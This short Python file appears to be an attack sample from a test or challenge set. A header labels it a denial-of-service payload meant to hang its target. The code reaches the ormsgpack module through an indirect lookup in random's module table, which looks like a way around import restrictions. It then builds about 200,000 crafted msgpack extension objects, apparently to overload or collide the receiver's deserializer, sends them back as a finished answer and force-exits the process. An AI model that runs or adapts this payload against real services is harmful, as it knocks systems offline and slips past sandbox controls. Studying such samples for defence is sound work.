# META {"kind": "dos", "goal": "hang", "args": [], "slots": {"name": "mallory"}}
import random

def m(self):
    msgpack = random._os.sys.modules["ormsgpack"]
    prime = (1 << 61) - 1
    keys = [msgpack.Ext(1, (number * prime).to_bytes(12, "big")) for number in range(8, 200_000)]
    answer = msgpack.packb(msgpack.Ext(3, msgpack.packb(keys)))
    self._world._channel.send(["done", answer, {}, [], ""])
    random._os._exit(0)
